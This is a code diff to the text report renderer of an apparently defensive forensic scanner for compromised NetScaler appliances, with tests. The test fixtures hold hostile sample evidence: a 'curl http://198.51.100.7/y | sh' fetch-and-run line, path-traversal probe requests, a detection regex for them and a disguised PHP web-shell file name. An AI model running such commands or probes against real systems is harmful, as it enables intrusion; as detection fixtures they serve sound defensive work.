@@ -1,10 +1,13 @@
 //! The text report, for a person reading a terminal or a saved file.
 //!
-//! The verdict comes first, then what was scanned, the findings by severity, what could not be
-//! examined and a rule summary. Every string that comes from the evidence, the rules or the
+//! The verdict comes first (for a compromised appliance followed by what happened: when, from
+//! where, which files), then the posture, what was scanned, the findings by severity (findings
+//! of one rule and shape grouped into one entry, rule patterns only with `--explain`, those
+//! below `--min-severity` counted, not listed), what could not be examined and a rule summary. Every string that comes from the evidence, the rules or the
 //! command line goes through [`sanitize`](super::sanitize): this renderer must never write a raw
 //! control character, and writes ANSI colour only when asked to.
 
+use super::group;
 use super::sanitize::{escape_bytes, escape_str, escape_text};
 use crate::model::{Finding, Report, Severity, SourceCoverage, TimeGapStatus, Timestamp, Verdict};
 use std::io::{self, Write};
@@ -16,18 +19,50 @@ const WIDTH: usize = 100;
 /// Width of the labels in front of finding details (`path:    `).
 const LABEL: usize = 9;
 
+/// How the text report is shown: colour, patterns, and which findings are listed. The other
+/// formats ignore it and keep everything.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub(crate) struct TextView {
+    /// ANSI colour on the verdict line and severities.
+    pub(crate) color: bool,
+    /// Show reasons whole, rule patterns included (`--explain`).
+    pub(crate) explain: bool,
+    /// List only findings of this severity or above (`--min-severity`); the rest are counted.
+    pub(crate) min_severity: Option<Severity>,
+}
+
 /// Writes the text report. With `color` false the output contains no escape sequence.
 pub(crate) fn render(report: &Report, out: &mut dyn Write, color: bool) -> io::Result<()> {
-    let p = Painter { color };
+    render_view(
+        report,
+        out,
+        &TextView {
+            color,
+            ..TextView::default()
+        },
+    )
+}
+
+/// Writes the text report as `view` asks.
+pub(crate) fn render_view(report: &Report, out: &mut dyn Write, view: &TextView) -> io::Result<()> {
+    let p = Painter { color: view.color };
     let mut s = String::new();
     verdict_section(report, &p, &mut s);
+    what_happened(report, &mut s);
     posture_section(report, &mut s);
     time_section(report, &mut s);
     target_section(report, &mut s);
-    findings_section(report, &p, &mut s);
+    findings_section(report, &p, view, &mut s);
     coverage_section(report, &mut s);
     rules_section(report, &p, &mut s);
     out.write_all(s.as_bytes())
+}
+
+/// The report's first line alone (`VERDICT: CLEAN`), for `--quiet`.
+pub(crate) fn verdict_line(report: &Report, out: &mut dyn Write, color: bool) -> io::Result<()> {
+    let p = Painter { color };
+    let line = format!("VERDICT: {}", report.verdict.as_str().to_ascii_uppercase());
+    writeln!(out, "{}", p.verdict(report.verdict, &line))
 }
 
 /// Adds ANSI colour when enabled; otherwise returns the text unchanged.
@@ -397,7 +432,59 @@ fn target_section(r: &Report, s: &mut String) {
     ));
 }
 
-fn findings_section(r: &Report, p: &Painter, s: &mut String) {
+/// For a compromised appliance, before everything else: when the critical and high traces
+/// were logged, the addresses in those lines and the files that are traces themselves.
+fn what_happened(r: &Report, s: &mut String) {
+    if r.verdict != Verdict::Compromised {
+        return;
+    }
+    let sum = group::summary(r);
+    s.push_str("WHAT HAPPENED (from the critical and high findings)\n");
+    match sum.logged {
+        Some((a, b)) if a == b => s.push_str(&format!("  Logged:    {a}\n")),
+        Some((a, b)) => s.push_str(&format!("  Logged:    first {a}, last {b}\n")),
+        None => s.push_str("  Logged:    no critical or high log line\n"),
+    }
+    let addrs: Vec<String> = sum.addresses.iter().map(ToString::to_string).collect();
+    let addrs = if addrs.is_empty() {
+        "none in the critical and high lines".to_owned()
+    } else {
+        listed(&addrs, MAX_LISTED)
+    };
+    wrap_into(s, &format!("Addresses: {addrs}"), "  ", &" ".repeat(13));
+    if sum.files.is_empty() {
+        s.push_str("  Files:     no critical or high file\n");
+    }
+    for (i, (path, mtime)) in sum.files.iter().enumerate() {
+        let head = if i == 0 {
+            "  Files:     "
+        } else {
+            "             "
+        };
+        let when = mtime.map_or(String::new(), |t| format!(" (modified {t})"));
+        s.push_str(&format!("{head}{}{when}\n", escape_bytes(path)));
+    }
+    s.push('\n');
+}
+
+/// Most items written out in one list of a grouped finding; the rest are counted.
+const MAX_LISTED: usize = 8;
+
+/// `a, b, c and 5 more`.
+fn listed(items: &[String], max: usize) -> String {
+    let shown = items
+        .iter()
+        .take(max)
+        .cloned()
+        .collect::<Vec<_>>()
+        .join(", ");
+    match items.len().saturating_sub(max) {
+        0 => shown,
+        more => format!("{shown} and {more} more"),
+    }
+}
+
+fn findings_section(r: &Report, p: &Painter, view: &TextView, s: &mut String) {
     if r.findings.is_empty() {
         s.push_str("FINDINGS: none\n\n");
         return;
@@ -414,29 +501,66 @@ fn findings_section(r: &Report, p: &Painter, s: &mut String) {
         r.findings.len(),
         counts.join(", ")
     ));
-    for sev in Severity::DESCENDING {
-        let group: Vec<&Finding> = r.findings.iter().filter(|f| f.severity == sev).collect();
-        if group.is_empty() {
+    let floor = view.min_severity.unwrap_or(Severity::Info);
+    let hidden = r.findings.iter().filter(|f| f.severity < floor).count();
+    if hidden > 0 {
+        let line = format!(
+            "{} below {floor} not listed here (--min-severity {floor}); the JSON report has every finding",
+            plural(hidden as u64, "finding", "findings")
+        );
+        wrap_into(s, &line, "  ", "    ");
+    }
+    for sev in Severity::DESCENDING.into_iter().filter(|&sev| sev >= floor) {
+        let of_sev: Vec<&Finding> = r.findings.iter().filter(|f| f.severity == sev).collect();
+        if of_sev.is_empty() {
             continue;
         }
         s.push('\n');
-        let head = format!("{} ({})", sev.as_str().to_ascii_uppercase(), group.len());
+        let head = format!("{} ({})", sev.as_str().to_ascii_uppercase(), of_sev.len());
         s.push_str(&p.severity(sev, &head));
         s.push('\n');
-        for f in group {
-            finding(f, p, s);
+        for g in group::group(&of_sev) {
+            if g.findings.len() == 1 {
+                finding(g.head(), p, view, s);
+            } else {
+                grouped(&g, p, view, s);
+            }
         }
+    }
+    if !view.explain && r.findings.iter().any(|f| hides_pattern(&f.reason)) {
+        s.push('\n');
+        wrap_into(
+            s,
+            "Rule patterns are left out of the reasons above: --explain shows them, the JSON report has them.",
+            "",
+            "",
+        );
     }
     s.push('\n');
 }
 
-fn finding(f: &Finding, p: &Painter, s: &mut String) {
+/// The heading line of a finding or a group: `[low] rule: title`.
+fn finding_head(f: &Finding, p: &Painter, extra: &str, s: &mut String) {
     let tag = p.severity(f.severity, &format!("[{}]", f.severity.as_str()));
     s.push_str(&format!(
-        "  {tag} {}: {}\n",
+        "  {tag} {}: {}{extra}\n",
         escape_str(&f.rule),
         escape_str(&f.title)
     ));
+}
+
+/// The reason, its patterns left out unless `--explain`; never wrapped inside a pattern.
+fn reason(f: &Finding, view: &TextView, s: &mut String) {
+    let text = if view.explain {
+        escape_text(&f.reason)
+    } else {
+        escape_text(&without_patterns(&f.reason))
+    };
+    wrap_into(s, &text, &label("reason"), &" ".repeat(4 + LABEL));
+}
+
+fn finding(f: &Finding, p: &Painter, view: &TextView, s: &mut String) {
+    finding_head(f, p, "", s);
     detail(s, "path", &escape_bytes(f.path.as_bytes()));
     if let Some(b64) = &f.path_base64 {
         detail(s, "base64", &escape_str(b64));
@@ -459,9 +583,10 @@ fn finding(f: &Finding, p: &Painter, s: &mut String) {
     {
         detail(s, "last", &escape_bytes(&e.0));
     }
-    let reason = escape_text(&f.reason);
-    wrap_into(s, &reason, &label("reason"), &" ".repeat(4 + LABEL));
-    if let Some(h) = &f.sha256 {
+    reason(f, view, s);
+    // A logged line is dated by the log; the log file's digest and time are in the coverage.
+    let logged = f.time.is_some();
+    if let Some(h) = f.sha256.as_ref().filter(|_| !logged || view.explain) {
         detail(s, "sha256", &escape_str(h));
     }
     if let Some(t) = f.time {
@@ -474,12 +599,128 @@ fn finding(f: &Finding, p: &Painter, s: &mut String) {
         }
         detail(s, "logged", &when);
     }
-    if let Some(m) = f.mtime {
+    if let Some(m) = f.mtime.filter(|_| !logged || view.explain) {
         detail(s, "mtime", &m.to_string());
     }
 }
 
+/// Several findings of one shape as one entry: how many, the first and the last, the files
+/// and the addresses in their lines.
+fn grouped(g: &group::Group<'_>, p: &Painter, view: &TextView, s: &mut String) {
+    let files = g.files();
+    let head = g.head();
+    let what = if head.line.is_some() || head.time.is_some() {
+        "matching lines"
+    } else {
+        "files"
+    };
+    let extra = if files.len() > 1 && what != "files" {
+        format!(" ({} {what} in {} files)", g.lines(), files.len())
+    } else {
+        format!(" ({} {what})", g.lines())
+    };
+    finding_head(head, p, &extra, s);
+    reason(head, view, s);
+    for (name, end) in [("first", g.first()), ("last", g.last())] {
+        let mut at = escape_bytes(end.finding.path.as_bytes());
+        if let Some(l) = end.line {
+            at.push_str(&format!(":{l}"));
+        }
+        if let Some(t) = end.time {
+            at.push_str(&format!(" at {t}"));
+            if end.finding.time_inferred {
+                at.push_str(" (year inferred)");
+            }
+        }
+        detail(s, name, &at);
+        if let Some(e) = end.excerpt {
+            s.push_str(&" ".repeat(4 + LABEL));
+            s.push_str(&escape_bytes(e));
+            s.push('\n');
+        }
+    }
+    if head.time.is_none() {
+        // Files that are traces themselves: each with its digest, as a single finding has.
+        for (i, f) in g.findings.iter().enumerate() {
+            let name = if i == 0 { "files" } else { "" };
+            let digest = f
+                .sha256
+                .as_deref()
+                .map_or(String::new(), |h| format!("  sha256 {}", escape_str(h)));
+            detail(
+                s,
+                name,
+                &format!("{}{digest}", escape_bytes(f.path.as_bytes())),
+            );
+        }
+    } else {
+        let names: Vec<String> = files.iter().map(|f| escape_bytes(f)).collect();
+        wrap_into(
+            s,
+            &listed(&names, MAX_LISTED),
+            &label("files"),
+            &" ".repeat(4 + LABEL),
+        );
+    }
+    let addrs: Vec<String> = g.addresses().iter().map(ToString::to_string).collect();
+    if !addrs.is_empty() {
+        let text = format!("{} distinct: {}", addrs.len(), listed(&addrs, MAX_LISTED));
+        wrap_into(s, &text, &label("sources"), &" ".repeat(4 + LABEL));
+    }
+}
+
+/// True when `reason` quotes a rule pattern (a regular expression) that the plain view leaves out.
+fn hides_pattern(reason: &str) -> bool {
+    without_patterns(reason) != reason
+}
+
+/// `reason` with every back-quoted regular expression replaced by "the rule's pattern";
+/// literal strings and path globs stay, they read as they are.
+fn without_patterns(reason: &str) -> String {
+    let mut out = String::with_capacity(reason.len());
+    let mut parts = reason.split('`');
+    if let Some(first) = parts.next() {
+        out.push_str(first);
+    }
+    let mut quoted = true;
+    for part in parts {
+        if quoted && part.contains(['\\', '(', '[', '{', '^', '$', '|', '+', '?']) {
+            out.push_str("the rule's pattern");
+        } else if quoted {
+            out.push('`');
+            out.push_str(part);
+            out.push('`');
+        } else {
+            out.push_str(part);
+        }
+        quoted = !quoted;
+    }
+    // An unbalanced back quote leaves the rest as it was written.
+    if quoted && reason.matches('`').count() % 2 == 1 {
+        return reason.to_owned();
+    }
+    for (twice, once) in [
+        (
+            "the rule's pattern, the rule's pattern",
+            "the rule's patterns",
+        ),
+        (
+            "the rule's patterns, the rule's pattern",
+            "the rule's patterns",
+        ),
+    ] {
+        while out.contains(twice) {
+            out = out.replace(twice, once);
+        }
+    }
+    out
+}
+
+/// `    name:    `, or as many spaces for a continuation line (an empty name).
 fn label(name: &str) -> String {
+    if name.is_empty() {
+        return " ".repeat(4 + LABEL);
+    }
     format!("    {:<width$}", format!("{name}:"), width = LABEL)
 }
 
@@ -622,12 +863,13 @@ fn rules_section(r: &Report, p: &Painter, s: &mut String) {
 }
 
 /// Word-wraps `text` (already escaped, so without newlines) at [`WIDTH`] columns. Words longer
-/// than a line are not cut.
+/// than a line are not cut, and a back-quoted span (a rule pattern) is one word: it is never
+/// broken at its own spaces.
 fn wrap_into(s: &mut String, text: &str, first: &str, rest: &str) {
     let mut line = String::from(first);
     let mut len = first.chars().count();
     let mut empty = true;
-    for word in text.split(' ') {
+    for word in words(text) {
         let wlen = word.chars().count();
         if !empty && len + 1 + wlen > WIDTH {
             s.push_str(&line);
@@ -646,6 +888,25 @@ fn wrap_into(s: &mut String, text: &str, first: &str, rest: &str) {
     }
     s.push_str(line.trim_end());
     s.push('\n');
+}
+
+/// `text` split at spaces outside back quotes.
+fn words(text: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let mut start = 0;
+    let mut quoted = false;
+    for (i, c) in text.char_indices() {
+        match c {
+            '`' => quoted = !quoted,
+            ' ' if !quoted => {
+                out.push(&text[start..i]);
+                start = i + 1;
+            }
+            _ => {}
+        }
+    }
+    out.push(&text[start..]);
+    out
 }
 
 fn pad(cell: &str, width: usize, right: bool) -> String {
@@ -757,8 +1018,13 @@ mod tests {
         assert!(t.contains("FINDINGS: 4 (1 critical, 1 high, 1 medium, 0 low, 1 info)\n"));
         assert!(t.contains("    line:    10 (5 matching lines, last at line 42)\n"));
         assert!(t.contains("    last:    -curl http://198.51.100.7/y | sh\\t#\n"));
-        assert!(t.contains(&format!("    sha256:  {}\n", "a".repeat(64))));
-        assert!(t.contains("    mtime:   2020-01-11T23:41:07Z\n"));
+        // A logged line is dated by its log: the log's digest and time only with --explain.
+        let digest = format!("    sha256:  {}\n", "a".repeat(64));
+        assert!(!t.contains(&digest));
+        assert!(!t.contains("    mtime:   2020-01-11T23:41:07Z\n"));
+        let explained = render_view_string(&sample_report(), true, None);
+        assert!(explained.contains(&digest));
+        assert!(explained.contains("    mtime:   2020-01-11T23:41:07Z\n"));
         // The single-hit finding has no collapse note.
         assert!(t.contains("    line:    1\n"));
     }
@@ -819,6 +1085,142 @@ mod tests {
         assert!(t.contains("FINDINGS: none\n"));
         assert!(t.contains("Gaps: none\n"));
         assert!(t.contains("Evidence sources: none defined\n"));
+    }
+
+    fn render_view_string(r: &Report, explain: bool, min: Option<Severity>) -> String {
+        let mut buf = Vec::new();
+        let view = TextView {
+            color: false,
+            explain,
+            min_severity: min,
+        };
+        render_view(r, &mut buf, &view).expect("writes to memory");
+        String::from_utf8(buf).expect("utf-8")
+    }
+
+    /// The sample report with its low finding copied: three blocked probes from two rotations.
+    fn with_repeated_probes() -> Report {
+        let mut r = sample_report();
+        let mut probe = r.findings[2].clone();
+        probe.severity = Severity::Low;
+        probe.rule = "cve-2019-19781.access-blocked-attempt".into();
+        probe.reason =
+            r#"log line matches `"[A-Z]{3,7} \S*/(?:\.\.)/vpns/\S* HTTP/1\.[01]" 403 `"#.into();
+        probe.count = 1;
+        probe.last_line = None;
+        probe.last_excerpt = None;
+        let t = |x: &str| Timestamp::parse_rfc3339(x).expect("constant time");
+        for (i, (path, ip, time)) in [
+            (
+                "var/log/httpaccess.log",
+                "203.0.113.5",
+                "2020-01-20T10:00:00Z",
+            ),
+            (
+                "var/log/httpaccess.log.0.gz",
+                "203.0.113.9",
+                "2020-01-10T10:00:00Z",
+            ),
+            (
+                "var/log/httpaccess.log",
+                "203.0.113.5",
+                "2020-01-21T10:00:00Z",
+            ),
+        ]
+        .into_iter()
+        .enumerate()
+        {
+            let mut f = probe.clone();
+            f.path = crate::model::EvPath::new(path);
+            f.line = Some(i as u64 + 1);
+            f.excerpt = Some(crate::model::Bytes(
+                format!("{ip} GET /vpn/../vpns/ 403").into_bytes(),
+            ));
+            f.time = Some(t(time));
+            f.last_time = None;
+            r.findings.push(f);
+        }
+        r
+    }
+
+    #[test]
+    fn findings_of_one_shape_are_one_entry() {
+        let t = render_view_string(&with_repeated_probes(), false, None);
+        assert!(t.contains("\nLOW (3)\n"), "{t}");
+        assert!(t.contains("(3 matching lines in 2 files)\n"), "{t}");
+        assert_eq!(
+            t.matches("cve-2019-19781.access-blocked-attempt:").count(),
+            1
+        );
+        assert!(
+            t.contains("    first:   /var/log/httpaccess.log.0.gz:2 at 2020-01-10T10:00:00Z\n")
+        );
+        assert!(t.contains("    last:    /var/log/httpaccess.log:3 at 2020-01-21T10:00:00Z\n"));
+        assert!(t.contains("    files:   /var/log/httpaccess.log, /var/log/httpaccess.log.0.gz\n"));
+        assert!(t.contains("    sources: 2 distinct: 203.0.113.5, 203.0.113.9\n"));
+        assert!(t.contains("    reason:  log line matches the rule's pattern\n"));
+        assert!(t.contains("--explain shows them"));
+    }
+
+    #[test]
+    fn explain_shows_patterns_whole_on_one_line() {
+        let t = render_view_string(&with_repeated_probes(), true, None);
+        let pattern = r#"`"[A-Z]{3,7} \S*/(?:\.\.)/vpns/\S* HTTP/1\.[01]" 403 `"#;
+        assert!(
+            t.lines().any(|l| l.contains(pattern)),
+            "the pattern is cut at its spaces:\n{t}"
+        );
+        assert!(!t.contains("--explain shows them"));
+        // A pattern too long for the line stays whole, on a line of its own.
+        let mut s = String::new();
+        let long = format!("matches `{}` and more words", "a b ".repeat(40));
+        wrap_into(&mut s, &long, "  ", "  ");
+        assert!(
+            s.lines()
+                .any(|l| l.trim() == format!("`{}`", "a b ".repeat(40))),
+            "{s}"
+        );
+    }
+
+    #[test]
+    fn min_severity_lists_less_and_says_how_much() {
+        let t = render_view_string(&with_repeated_probes(), false, Some(Severity::High));
+        assert!(
+            t.contains("FINDINGS: 7 (1 critical, 1 high, 1 medium, 3 low, 1 info)\n"),
+            "{t}"
+        );
+        assert!(
+            t.contains("  5 findings below high not listed here (--min-severity high)"),
+            "{t}"
+        );
+        assert!(!t.contains("\nMEDIUM ("));
+        assert!(!t.contains("\nLOW ("));
+        assert!(t.contains("\nHIGH (1)\n"));
+    }
+
+    #[test]
+    fn compromised_reports_say_what_happened_first() {
+        let t = render_view_string(&sample_report(), false, None);
+        let head: Vec<&str> = t
+            .lines()
+            .take_while(|l| !l.starts_with("POSTURE"))
+            .collect();
+        let head = head.join("\n");
+        assert!(
+            head.contains("WHAT HAPPENED (from the critical and high findings)"),
+            "{head}"
+        );
+        assert!(
+            head.contains("  Logged:    first 2020-01-11T23:41:07Z, last 2020-01-12T01:02:03Z")
+        );
+        assert!(
+            head.contains("  Files:     /var/netscaler/logon/themes/a\\u{202e}gnp.php"),
+            "{head}"
+        );
+        let mut clean = sample_report();
+        clean.verdict = Verdict::Clean;
+        let t = render_view_string(&clean, false, None);
+        assert!(!t.contains("WHAT HAPPENED"));
     }
 
     #[test]
